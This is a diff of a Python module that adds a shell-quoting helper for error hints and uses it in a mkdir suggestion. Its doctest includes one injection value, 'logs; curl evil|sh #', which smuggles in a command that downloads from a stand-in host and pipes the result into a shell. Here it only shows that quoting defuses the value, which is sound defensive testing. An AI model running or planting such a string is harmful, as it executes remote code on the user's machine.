@@ -35,6 +35,17 @@ def called(source: Path | bytes) -> str:
     return "stdin" if isinstance(source, bytes) else str(source)
 
 
+def quoted(word: Path | str) -> str:
+    """`word` as a shell takes it for one word: a hint that repeats a name is there to be pasted.
+
+    Examples
+    --------
+    >>> quoted("w.npz"), quoted("logs; curl evil|sh #")
+    ('w.npz', "'logs; curl evil|sh #'")
+    """
+    return shlex.quote(str(word))
+
+
 def write_atomically(path: Path, *content: bytes | memoryview, follow: bool = True) -> None:
     """Write `content`, piece after piece, to `path` through a temporary file beside it.
 
@@ -176,7 +187,7 @@ def _check_target(path: Path) -> None:
         raise OutputError(f"cannot write {path}: it is a folder", "name a file")
     parent = _resolved(path).parent
     if not parent.exists():
-        hint = f"mkdir -p {shlex.quote(str(parent))}"
+        hint = f"mkdir -p {quoted(parent)}"
         raise OutputError(f"cannot write {path}: the folder {parent} does not exist", hint)
 
 
